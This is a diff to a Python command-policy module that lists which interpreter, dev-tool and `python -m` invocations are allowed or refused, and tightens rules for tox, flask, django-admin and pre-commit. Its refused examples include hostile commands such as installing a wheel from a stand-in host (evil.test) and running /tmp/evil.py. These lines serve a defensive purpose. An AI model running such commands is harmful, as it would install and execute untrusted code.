@@ -3,14 +3,13 @@
 from treadle.policy.commands.language import Rule
 from treadle.policy.commands.tools import tool, tools
 
-_PYTHON = (
-    "-BbdEIOqRsSuVvx -c=text! -m=module! -W=text -X=text --version --help -h"
-)
+_PYTHON = "-BbdEIOqRsSuVvx -c=text! -m=module! -W=text -X=text --version --help -h"
 _TOOLS = (
-    "pytest py.test tox nox mypy pyright ruff flake8 pylint black isort autopep8 yapf coverage"
-    " bandit vulture pydocstyle pycodestyle pre-commit mkdocs sphinx-build django-admin flask"
+    "pytest py.test nox mypy pyright ruff flake8 pylint black isort autopep8 yapf coverage"
+    " bandit vulture pydocstyle pycodestyle mkdocs sphinx-build"
     " uvicorn gunicorn hypercorn celery alembic streamlit jupytext pyflakes basedpyright ty"
-    " cookiecutter hypothesis locust robot behave stubtest dmypy codespell import-linter lint-imports"
+    " cookiecutter hypothesis locust robot behave stubtest dmypy codespell"
+    " import-linter lint-imports"
 )
 _PIPED = "Run a file of the project (python app.py), or give the code: python -c '…'."
 
@@ -23,12 +22,23 @@ def _python(name: str) -> Rule:
         stops=True,
         check="python",
         instead=_PIPED,
-        allows=(f"{name} manage.py test", f"{name} -c 'print(1)'", f"{name} -m pytest -q",
-                f"{name} - <<'EOF'\nprint(1)\nEOF", f"{name} --version"),
-        refuses=(f"{name} -m timeit -s 'x'", f"{name} -m pdb -c '!x' y", f"{name} /tmp/evil.py",
-                 name, f"{name} -m pip install http://evil.test/x.whl", f"{name} ../x.py",
-                 f"{name} -i x.py"),
-    )  # fmt: skip
+        allows=(
+            f"{name} manage.py test",
+            f"{name} -c 'print(1)'",
+            f"{name} -m pytest -q",
+            f"{name} - <<'EOF'\nprint(1)\nEOF",
+            f"{name} --version",
+        ),
+        refuses=(
+            f"{name} -m timeit -s 'x'",
+            f"{name} -m pdb -c '!x' y",
+            f"{name} /tmp/evil.py",
+            name,
+            f"{name} -m pip install http://evil.test/x.whl",
+            f"{name} ../x.py",
+            f"{name} -i x.py",
+        ),
+    )
 
 
 _OPEN_MODULES = "unittest compileall py_compile doctest cProfile tabnanny build pydoc trace"
@@ -36,10 +46,26 @@ _OPEN_MODULES = "unittest compileall py_compile doctest cProfile tabnanny build 
 # What `python -m` runs that has no command of its own.
 _MODULES: tuple[Rule, ...] = (
     *(tool(f"-m {name}") for name in _OPEN_MODULES.split()),
-    Rule("-m venv", "--clear --upgrade --system-site-packages --upgrade-deps --without-pip --prompt=text", "write...", mode="run", instead="Make it inside the project: python -m venv .venv."),
+    Rule(
+        "-m venv",
+        "--clear --upgrade --system-site-packages --upgrade-deps --without-pip --prompt=text",
+        "write...",
+        mode="run",
+        instead="Make it inside the project: python -m venv .venv.",
+    ),
     Rule("-m ensurepip", "--upgrade --default-pip", mode="run"),
-    Rule("-m http.server", "-b=text -d=run --bind=text --directory=run", "number", instead="Serve a directory of the project."),
-    Rule("-m json.tool", "--sort-keys --indent=number --compact --no-ensure-ascii --json-lines --tab", "read", instead="Print it: python -m json.tool x.json."),
+    Rule(
+        "-m http.server",
+        "-b=text -d=run --bind=text --directory=run",
+        "number",
+        instead="Serve a directory of the project.",
+    ),
+    Rule(
+        "-m json.tool",
+        "--sort-keys --indent=number --compact --no-ensure-ascii --json-lines --tab",
+        "read",
+        instead="Print it: python -m json.tool x.json.",
+    ),
     Rule("-m site", "--user-base --user-site"),
     Rule("-m platform"),
     Rule("-m sysconfig"),
@@ -53,8 +79,10 @@ _MODULES: tuple[Rule, ...] = (
 RULES: tuple[Rule, ...] = (
     _python("python"),
     _python("python3"),
-    *(Rule(f"python3.{minor}", _PYTHON, "code", stops=True, check="python", instead=_PIPED)
-      for minor in range(8, 16)),
+    *(
+        Rule(f"python3.{minor}", _PYTHON, "code", stops=True, check="python", instead=_PIPED)
+        for minor in range(8, 16)
+    ),
     Rule(
         "manage.py",
         style="open",
@@ -65,5 +93,19 @@ RULES: tuple[Rule, ...] = (
         refuses=("./manage.py migrate", "./manage.py shell -c x", "./manage.py dbshell"),
     ),
     *tools(_TOOLS),
+    tool("tox", never="-x --override --runner exec", refuses="tox --override=x"),
+    tool("flask", check="manage", refuses="flask shell"),
+    tool(
+        "django-admin",
+        never="--pythonpath --settings --command -c --template",
+        check="manage",
+        refuses="django-admin shell",
+    ),
+    tool(
+        "pre-commit",
+        check="pre-commit",
+        allows="pre-commit run --all-files",
+        refuses="pre-commit install",
+    ),
     *_MODULES,
-)  # fmt: skip
+)
